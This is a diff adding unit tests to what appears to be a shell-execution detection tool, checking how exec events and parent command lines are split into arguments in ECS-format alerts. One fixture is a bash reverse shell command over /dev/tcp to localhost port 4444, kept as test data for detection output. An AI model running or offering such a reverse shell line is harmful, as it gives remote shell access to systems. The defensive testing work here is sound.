@@ -11,6 +11,7 @@
 #include <sys/stat.h>
 #include <unistd.h>
 #include <json-c/json.h>
+#include "argl.h"
 #include "attack.h"
 #include "jsonw.h"
 #include "metrics.h"
@@ -186,6 +187,19 @@ static void test_ecs_fields(void)
 	CHECK(!strcmp(gets_(o, "container.id"), "c0ffee"));
 	CHECK(!get(o, "shellwatch.escaped") && !get(o, "shellwatch.command_line_truncated"));
 	CHECK(!get(o, "process.working_directory") && !get(o, "process.parent.working_directory"));
+	json_object_put(o);
+	free(line);
+	/* arguments with spaces: split where argl says (include/argl.h), not at every space */
+	snprintf(a.pcmd, sizeof(a.pcmd), "bash -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1");
+	CHECK(argl_inner(sw_str_c(a.pcmd), sw_str_c("4,2,39"), a.pcmd_inner, sizeof(a.pcmd_inner)));
+	line = alert_ecs(&a, &ident, &len);
+	o = json_tokener_parse(line);
+	CHECK(json_object_get_int(get(o, "process.parent.args_count")) == 3);
+	CHECKF(json_object_array_length(get(o, "process.parent.args")) == 3 &&
+	       !strcmp(json_object_get_string(json_object_array_get_idx(get(o, "process.parent.args"),
+									  2)),
+		       "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"), "%s", line);
+	CHECK(!strcmp(gets_(o, "process.parent.command_line"), a.pcmd));
 	json_object_put(o);
 	free(line);
 	/* working directories: named when known (OCSF 1.1 has no attribute for them) */
@@ -558,6 +572,13 @@ static void test_event_ecs(void)
 	CHECK(!strcmp(gets_(o, "event.kind"), "event") && !strcmp(gets_(o, "event.action"), "exec"));
 	CHECK(json_object_get_int(get(o, "process.args_count")) == 3);
 	CHECK(strlen(gets_(o, "process.entity_id")) == 16);
+	json_object_put(o);
+	free(line);
+	ev.exec.argv = sw_str_c("sh -c echo hi"), ev.exec.argl = sw_str_c("2,2,7");
+	line = event_ecs(&ev, &ident, 1800000000000000000ull, &len);
+	o = json_tokener_parse(line);
+	CHECKF(json_object_get_int(get(o, "process.args_count")) == 3, "%s", line);
+	ev.exec.argv = sw_str_c("sh -c id"), ev.exec.argl = sw_str_c("");
 	CHECK(!get(o, "process.working_directory"));
 	json_object_put(o);
 	free(line);
